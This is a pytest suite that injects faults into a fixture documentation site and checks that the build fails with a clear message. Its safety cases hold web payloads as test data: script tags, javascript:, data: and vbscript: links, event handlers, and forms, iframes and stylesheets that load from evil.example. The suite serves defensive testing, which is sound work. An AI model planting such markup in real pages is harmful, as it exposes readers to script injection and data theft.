"""Bad input gets a clear error and loses nothing.

Each case builds the small fixture site (tests/fixture_site) with the real
theme, hooks and checks, after injecting one fault, and expects a failed
build (or `make check`) with a message that names the file, the line where
there is one, and how to fix it. The safety cases cross every route by
which text reaches a page with the kinds of payload a page must never
carry; whichever check finds it first (the Markdown source or the built
HTML), the build must stop.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
import warm_python

from conftest import ROOT, fixture_project, run_build

# Each case builds the fixture site: about a minute in all.
pytestmark = pytest.mark.slow

PAGE = "docs/page.md"
SHEET = "docs/worksheets/sheet.md"
ANCHOR = "## What it sounds like"  # faults go in just above this heading
SAFETY = "## A note on safety"  # and above this one on the worksheet


# --- Ways to inject a fault ---------------------------------------------------------


def edit(path: str, old: str, new: str) -> Callable[[Path], None]:
    def inject(project: Path) -> None:
        file = project / path
        text = file.read_text(encoding="utf-8")
        assert old in text, f"{old!r} not in {path}"
        file.write_text(text.replace(old, new, 1), encoding="utf-8")

    return inject


def body(markdown: str, path: str = PAGE) -> Callable[[Path], None]:
    """Markdown added to a page's body, before a heading."""
    return edit(path, ANCHOR if path == PAGE else SAFETY, f"{markdown}\n\n{ANCHOR if path == PAGE else SAFETY}")


def field(old: str, new: str) -> Callable[[Path], None]:
    return edit(PAGE, old, new)


def write(path: str, content: str | bytes, then: Callable[[Path], None] | None = None) -> Callable[[Path], None]:
    def inject(project: Path) -> None:
        file = project / path
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_bytes(content) if isinstance(content, bytes) else file.write_text(content, encoding="utf-8")
        if then:
            then(project)

    return inject


def add_orphan(project: Path) -> None:
    shutil.copy(project / PAGE, project / "docs" / "orphan.md")


def hard_words(project: Path) -> None:
    dense = (
        "Comprehensive institutional accountability necessitates thorough interpersonal "
        "understanding regarding psychological vulnerability and consequences. "
    ) * 6
    body(dense)(project)


def not_utf8(project: Path) -> None:
    file = project / PAGE
    file.write_bytes(file.read_bytes().replace(b"You listen.", "You l\xe9sten.".encode("latin-1")))


def line_of(path: str, needle: str, project: Path) -> int:
    lines = (project / path).read_text(encoding="utf-8").splitlines()
    return next(i for i, line in enumerate(lines, start=1) if needle in line)


@dataclass
class Case:
    name: str
    inject: Callable[[Path], None]
    expect: list[str]  # substrings of the output; {line} is the needle's line
    run: str = "build"  # "build" or "check"
    needle: str | None = None  # text on the faulty line, to find the expected {line}
    file: str = PAGE  # the file the needle is in


BUILT = f"{PAGE} (built as page/index.html)"
DIAGRAM = "includes/diagrams/listening.svg"
# A packet of the fixture's worksheet and one more sheet, filled in per case.
PACKET = """packets:
  - slug: test
    title: A test packet
    description: The fixture's worksheet and one more.
    sheets:
      - worksheets/sheet.md
      - {}
"""
SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10">{}</svg>'

CONTENT_CASES = [
    Case(
        "malformed YAML",
        field("title: A page to break", "title: A page: [oops"),
        ["docs/page.md:2: the front matter is not valid YAML"],
    ),
    Case("missing title", field("title: A page to break\n", ""), ["docs/page.md: field 'title': is missing"]),
    Case(
        "description too long",
        field("description: A short page", "description: " + "Many words " * 14 + "and a page"),
        ["docs/page.md:3: field 'description': String should have at most 160 characters"],
    ),
    Case(
        "unknown audience",
        field("audience: [", "audience: [everyone, "),
        ["docs/page.md:4: field 'audience': item 0: 'everyone' is not allowed"],
    ),
    Case(
        "unknown tag",
        field("tags: [Empathy", "tags: [Horoscopes, Empathy"),
        ["docs/page.md:5: field 'tags': unknown tag(s) 'Horoscopes'"],
    ),
    Case(
        "next check before the check",
        field("next_check: 2027-12-01", "next_check: 2025-11-22"),
        ["docs/page.md: next_check must be a later date than editorial_check"],
    ),
    Case(
        "check date passed (CI)",
        field(
            "editorial_check: 2026-12-01\nnext_check: 2027-12-01", "editorial_check: 2020-01-01\nnext_check: 2021-01-01"
        ),
        ["error: docs/page.md:7: field 'next_check': the editorial check date 2021-01-01 has passed"],
        run="check",
    ),
    Case(
        "draft page (CI)",
        field("editorial_check: 2026-12-01\nnext_check: 2027-12-01\n", ""),
        ["error: docs/page.md:1: the page is a draft"],
        run="check",
    ),
    Case(
        "clinical review by an unknown reviewer",
        field("sources:", "clinical_review:\n  reviewer: dr-nobody\n  date: 2026-12-02\nsources:"),
        ["docs/page.md:8: field 'clinical_review': item reviewer: 'dr-nobody' is not a reviewer listed"],
    ),
    Case(
        "source never cited",
        field("as your partner sees it.[^wiseman-1996]", "as your partner sees it."),
        ["docs/page.md:8: field 'sources': the source 'wiseman-1996' is never cited"],
    ),
    Case(
        "citation with no source",
        body("Another idea.[^nobody-2020]"),
        ["docs/page.md:{line}: field 'sources': the citation [^nobody-2020] has no source"],
        needle="nobody-2020",
    ),
    Case(
        "hand-written footnote",
        body("[^wiseman-1996]: Wiseman (1996)."),
        ["docs/page.md:{line}: the footnote [^wiseman-1996] is written by hand"],
        needle="[^wiseman-1996]: W",
    ),
    Case(
        "scaffold guide comment left",
        body("<!-- Guide: Write the opening here. -->"),
        ["docs/page.md:{line}: the page still holds a guidance comment"],
        needle="<!-- Guide:",
    ),
    Case(
        "help-line number typed by hand",
        body("Call 0808 2000 247 now."),
        [
            "docs/page.md:{line}: the help-line number 0808 2000 247 is typed into the page",
            "<!-- call gb-national-da-helpline -->",
        ],
        needle="0808",
    ),
    Case(
        "unknown help line",
        body("Call <!-- call gb-nowhere --> now."),
        ["docs/page.md:{line}: <!-- call gb-nowhere --> names no help line"],
        needle="gb-nowhere",
    ),
    Case(
        "broken internal link",
        body("See [the lost page](no-such-page.md)."),
        ["docs/page.md:{line}:", "no-such-page.md"],
        needle="no-such-page.md",
    ),
    Case(
        "missing anchor",
        body("See [this part](index.md#no-such-part)."),
        ["docs/page.md:{line}:", "#no-such-part"],
        needle="no-such-part",
    ),
    Case(
        "image without alt text",
        write("docs/assets/images/pic.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 100, body("![](assets/images/pic.png)")),
        ["docs/page.md:{line}: the image assets/images/pic.png has no alt text"],
        needle="pic.png",
    ),
    Case(
        "image over 300 KB",
        write(
            "docs/assets/images/big.png",
            b"\x89PNG\r\n\x1a\n" + b"\0" * 320 * 1024,
            body("![A big picture](assets/images/big.png)"),
        ),
        ["docs/page.md:{line}: the image assets/images/big.png is 320 KB, over the 300 KB limit"],
        needle="big.png",
    ),
    Case("page missing from nav", add_orphan, ["orphan.md", "add each page to the nav: section of mkdocs.yml"]),
    Case(
        "answer field with no label",
        body(":: lines 3 |", SHEET),
        ["docs/worksheets/sheet.md:{line}: the 'lines' answer field has no prompt"],
        needle=":: lines 3 |",
        file=SHEET,
    ),
    Case(
        "unknown answer field",
        body(":: slider | How close do I feel?", SHEET),
        ["docs/worksheets/sheet.md:{line}: unknown answer field 'slider'"],
        needle=":: slider",
        file=SHEET,
    ),
    Case("reading grade above 8", hard_words, ["error: docs/page.md: reading grade", "is above 8.0"], run="check"),
    # Diagrams (includes/diagrams/).
    Case(
        "diagram: unknown name",
        body("<!-- diagram nope -->"),
        ["docs/page.md:{line}: no diagram named 'nope'"],
        needle="diagram nope",
    ),
    Case(
        "diagram: its own colour",
        edit(DIAGRAM, 'class="d-box" x="10"', 'class="d-box" fill="#c00" x="10"'),
        [DIAGRAM + ":{line}: <rect> sets its own fill"],
        needle='fill="#c00"',
        file=DIAGRAM,
    ),
    Case(
        "diagram: script",
        edit(DIAGRAM, "<rect", "<script>alert(1)</script><rect"),
        [DIAGRAM + ": <script> inside an SVG picture"],
    ),
    # Worksheet packets (scripts/packets.yml).
    Case(
        "packet: a worksheet that does not exist",
        write("scripts/packets.yml", PACKET.format("worksheets/missing.md")),
        ["scripts/packets.yml:{line}: field 'sheets': packet 'test' lists worksheets/missing.md, which does not exist"],
        needle="missing.md",
        file="scripts/packets.yml",
    ),
    Case(
        "packet: a page that is not a worksheet",
        write("scripts/packets.yml", PACKET.format("page.md")),
        ["scripts/packets.yml:{line}: field 'sheets': packet 'test' lists page.md, which is not a worksheet"],
        needle="- page.md",
        file="scripts/packets.yml",
        run="check",
    ),
    Case(
        "packet: one worksheet twice",
        write("scripts/packets.yml", PACKET.format("worksheets/sheet.md")),
        ["scripts/packets.yml:1: cannot be read", "worksheets/sheet.md listed more than once"],
    ),
    Case("file not UTF-8", not_utf8, ["docs/page.md: the file is not UTF-8 text"]),
]

# Every route text takes into a page, crossed with the payloads a page must never carry.
SAFETY_CASES = [
    # The body, in every kind of block.
    Case(
        "body: script", body("<script>alert(1)</script>"), ["docs/page.md:{line}: raw <script> tag"], needle="<script>"
    ),
    Case(
        "body: entity-encoded javascript link",
        body('<a href="&#106;ava&#x73;cript:alert(1)">x</a>'),
        ["docs/page.md:{line}: javascript: address"],
        needle="&#106;",
    ),
    Case(
        "body: data link",
        body("[Open](data:text/html;base64,PHNjcmlwdD4=)"),
        ["docs/page.md:{line}: data: address"],
        needle="data:text",
    ),
    Case(
        "body: form to another site",
        body('<form action="https://evil.example/c"><input name="q"></form>'),
        [f"{BUILT}: <form> sends what a reader types to https://evil.example/c"],
    ),
    Case(
        "body: meta refresh",
        body('<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
        ["docs/page.md:{line}: <meta> tag changes how the whole page behaves"],
        needle="refresh",
    ),
    Case(
        "body: base", body('<base href="https://evil.example/">'), ["docs/page.md:{line}: <base> tag"], needle="<base"
    ),
    Case(
        "body: preload from elsewhere",
        body('<link rel="preload" as="font" href="https://fonts.example/f.woff2">'),
        ["docs/page.md:{line}:", "loads https://fonts.example/f.woff2 from another site"],
        needle="preload",
    ),
    Case(
        "body: srcset from elsewhere",
        body('<img src="a.png" srcset="https://evil.example/b.png 2x" alt="b">'),
        ["docs/page.md:{line}:", "loads https://evil.example/b.png"],
        needle="srcset",
    ),
    Case(
        "body: inline svg script",
        body("<svg><script>alert(1)</script></svg>"),
        ["docs/page.md:{line}: raw <script> tag"],
        needle="<svg>",
    ),
    Case(
        "admonition: image handler",
        body('!!! note\n\n    <img src="a.png" alt="a" onerror="go()">'),
        ["docs/page.md:{line}: inline event handler 'onerror='"],
        needle="onerror",
    ),
    Case(
        "admonition: style import",
        body("!!! note\n\n    <style>@import url(https://evil.example/x.css);</style>"),
        ["docs/page.md:{line}: a <style> block loads https://evil.example/x.css"],
        needle="@import",
    ),
    Case(
        "tabs: iframe",
        body('=== "One"\n\n    <iframe src="https://evil.example/"></iframe>'),
        ["docs/page.md:{line}: <iframe> embeds content"],
        needle="<iframe",
    ),
    Case(
        "details: object",
        body('??? note "More"\n\n    <object data="x.swf"></object>'),
        ["docs/page.md:{line}: <object> embeds content"],
        needle="<object",
    ),
    Case(
        "md_in_html: javascript link",
        body("<div markdown>\n\n[Go](javascript:alert(1))\n\n</div>"),
        ["docs/page.md:{line}: javascript: address in a Markdown link"],
        needle="javascript:",
    ),
    Case(
        "md_in_html: handler on the block",
        body('<div markdown onmouseover="go()">\n\nText.\n\n</div>'),
        ["docs/page.md:{line}: inline event handler 'onmouseover='"],
        needle="onmouseover",
    ),
    Case(
        "table: vbscript link",
        body("| A | B |\n| --- | --- |\n| [x](vbscript:msgbox) | y |"),
        ["docs/page.md:{line}: javascript: address"],
        needle="vbscript",
    ),
    Case(
        "attribute list: handler",
        body('A paragraph.\n{: onclick="go()" }'),
        ["docs/page.md:{line}: inline event handler 'onclick=' in an attribute list"],
        needle="onclick",
    ),
    Case(
        "attribute list: style loads from elsewhere",
        body('A paragraph.\n{: style="background: url(https://evil.example/x.png)" }'),
        [f"{BUILT}: style= on <p> loads https://evil.example/x.png from another site"],
    ),
    Case(
        "attribute list: href replaced",
        body('[A link](index.md){: href="javascript:alert(1)" }'),
        ["docs/page.md:{line}: javascript: address in href= in an attribute list"],
        needle="href=",
    ),
    Case(
        "reference link: javascript",
        body("[Go][evil]\n\n[evil]: javascript:alert(1)"),
        ["docs/page.md:{line}: javascript: address in link definition"],
        needle="[evil]: ",
    ),
    # Includes: what they bring in is judged on the built page.
    Case(
        "include: script",
        write("includes/evil.md", "<script>alert(1)</script>\n", body('--8<-- "evil.md"')),
        [f"{BUILT}: inline <script> that is not the theme's own"],
    ),
    Case(
        "include: image from elsewhere",
        write("includes/evil.md", '<img src="https://evil.example/p.png" alt="p">\n', body('--8<-- "evil.md"')),
        [f"{BUILT}: <img> loads https://evil.example/p.png from another site"],
    ),
    Case("include: outside includes/", body('--8<-- "../mkdocs.yml"'), ["../mkdocs.yml"]),
    # Front matter: every string is plain text.
    Case(
        "front matter: script in title",
        field("title: A page to break", "title: A <script>alert(1)</script> page"),
        ["docs/page.md:2: field 'title': must be plain text"],
    ),
    Case(
        "front matter: markup in description",
        field("description: A short page", "description: A <img src=x onerror=alert(1)> short page"),
        ["docs/page.md:3: field 'description': must be plain text"],
    ),
    Case(
        "front matter: entity in tags",
        field("tags: [Empathy, Listening]", "tags: ['&lt;b&gt;']"),
        ["docs/page.md:5: field 'tags': item 0: must be plain text"],
    ),
    Case(
        "front matter: markup in a source",
        field("title: A concept analysis", "title: A <i>concept</i> analysis"),
        ["docs/page.md:8: field 'sources': item 0/title: must be plain text"],
    ),
    Case(
        "front matter: javascript source link",
        field("    doi: 10.1046/j.1365-2648.1996.12213.x", "    url: javascript:alert(1)"),
        ["docs/page.md:8: field 'sources': item 0/url:"],
    ),
    Case(
        "front matter: unknown template",
        field("tags: [", "template: evil.html\ntags: ["),
        ["docs/page.md:5: field 'template': is not a known field"],
    ),
    # Worksheet answer syntax.
    Case(
        "answer field: script in prompt",
        body(":: lines 2 | <script>alert(1)</script>", SHEET),
        ["docs/worksheets/sheet.md:{line}: raw <script> tag"],
        needle=":: lines 2 | <script>",
        file=SHEET,
    ),
    Case(
        "answer field: image from elsewhere",
        body(':: field | <img src="https://evil.example/x.png" alt="x">', SHEET),
        ["docs/worksheets/sheet.md:{line}:", "loads https://evil.example/x.png"],
        needle=":: field | <img",
        file=SHEET,
    ),
    # The glossary, appended to every page.
    Case(
        "glossary: script",
        edit("includes/glossary.md", "*[", "<script>alert(1)</script>\n\n*["),
        ["includes/glossary.md:{line}: raw <script> tag"],
        needle="<script>",
        file="includes/glossary.md",
    ),
    # Assets under docs/.
    Case(
        "asset: svg with script",
        write("docs/assets/images/bad.svg", SVG.format("<script>alert(1)</script>")),
        ["docs/assets/images/bad.svg: <script> inside an SVG picture"],
    ),
    Case(
        "asset: svg with handler",
        write("docs/assets/images/bad.svg", SVG.format('<rect onclick="go()"/>')),
        ["docs/assets/images/bad.svg: inline event handler 'onclick=' on <rect>"],
    ),
    Case(
        "asset: svg loads from elsewhere",
        write("docs/assets/images/bad.svg", SVG.format('<image href="https://evil.example/x.png"/>')),
        ["docs/assets/images/bad.svg: <image> loads https://evil.example/x.png"],
    ),
    Case(
        "asset: raw html file",
        write("docs/assets/extra.html", "<p>Hi</p>"),
        ["docs/assets/extra.html: a .html file among the assets"],
    ),
    Case(
        "asset: stylesheet imports from elsewhere",
        write("docs/assets/stylesheets/extra.css", "@import url('https://evil.example/x.css');\n"),
        ["docs/assets/stylesheets/extra.css: the stylesheet loads https://evil.example/x.css"],
    ),
    # Theme overrides: on every page, so the message points at the templates.
    Case(
        "override: inline script",
        edit("overrides/main.html", "{% block extrahead %}", "{% block extrahead %}\n  <script>window.x = 1</script>"),
        ["pages, among them", "inline <script> that is not the theme's own", "comes from a template in overrides/"],
    ),
    Case(
        "override: stylesheet from elsewhere",
        edit(
            "overrides/main.html",
            "{% block extrahead %}",
            '{% block extrahead %}\n  <link rel="stylesheet" href="https://cdn.example/x.css">',
        ),
        ["pages, among them", "<link> loads https://cdn.example/x.css from another site"],
    ),
]

CASES = CONTENT_CASES + SAFETY_CASES


def run(kind: str, project: Path, out: Path) -> subprocess.CompletedProcess:
    if kind == "build":
        return run_build(project, out, SITE_SKIP_PDFS="1")
    return warm_python.run(
        ["scripts/check.py"],
        cwd=project,
        env={**os.environ, "CI": "true", "NO_MKDOCS_2_WARNING": "1", "SITE_SKIP_PDFS": "1"},
    )


def test_there_are_enough_cases():
    assert len(SAFETY_CASES) >= 30 and len(CASES) >= 50
    assert len({c.name for c in CASES}) == len(CASES)


def test_the_fixture_site_builds_clean(tmp_path):
    project = fixture_project(tmp_path / "project")
    result = run_build(project, tmp_path / "out", SITE_SKIP_PDFS="1")
    assert result.returncode == 0, result.stderr
    assert (tmp_path / "out" / "page" / "index.html").is_file()


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.name)
def test_fault_fails_with_file_line_and_fix(case, tmp_path):
    project = fixture_project(tmp_path / "project")
    case.inject(project)
    result = run(case.run, project, tmp_path / "out")
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    line = line_of(case.file, case.needle, project) if case.needle else None
    for expected in case.expect:
        assert expected.replace("{line}", str(line)) in output, output
    if case.name != "include: outside includes/":  # the snippets extension's own error
        assert "How to fix:" in output, output


def test_passed_check_date_is_only_a_warning_outside_ci(tmp_path):
    project = fixture_project(tmp_path / "project")
    field("editorial_check: 2026-12-01\nnext_check: 2027-12-01", "editorial_check: 2020-01-01\nnext_check: 2021-01-01")(
        project
    )
    env = {k: v for k, v in os.environ.items() if k != "CI"}
    result = warm_python.run(["scripts/check.py", "--front-matter-only"], cwd=project, env=env)
    assert result.returncode == 0, result.stdout
    assert (
        "warning: docs/page.md:7: field 'next_check': the editorial check date 2021-01-01 has passed" in result.stdout
    )


def make_build(project: Path) -> subprocess.CompletedProcess:
    """`make build` in a fixture project, with this checkout's environment."""
    for name in ("Makefile", "requirements.txt", "pyproject.toml"):
        if not (project / name).exists():
            shutil.copy2(ROOT / name, project / name)
    # -o: never reinstall into this checkout's environment from the copy.
    venv = ROOT / ".venv"
    return subprocess.run(
        ["make", "-s", "build", f"VENV={venv}", "-o", str(venv / ".installed")],
        cwd=project,
        capture_output=True,
        text=True,
        env={**os.environ, "SITE_SKIP_PDFS": "1"},
    )


@pytest.mark.parametrize(
    "fault, says",
    [
        (field("title: A page to break\n", ""), "field 'title': is missing"),
        # The built-HTML scan runs after MkDocs has written the pages.
        (write("includes/evil.md", "<script>alert(1)</script>\n", body('--8<-- "evil.md"')), "inline <script>"),
    ],
    ids=["page problem", "built-HTML scan"],
)
def test_a_failed_make_build_keeps_the_previous_site(tmp_path, fault, says):
    project = fixture_project(tmp_path / "project")
    assert make_build(project).returncode == 0
    (project / "site" / "marker.txt").write_text("still here")
    fault(project)
    failed = make_build(project)
    assert failed.returncode != 0 and says in failed.stderr, failed.stderr
    assert (project / "site" / "marker.txt").read_text() == "still here"
    assert "<script>alert(1)</script>" not in (project / "site" / "page" / "index.html").read_text(encoding="utf-8")
    assert not (project / "site.new").exists()
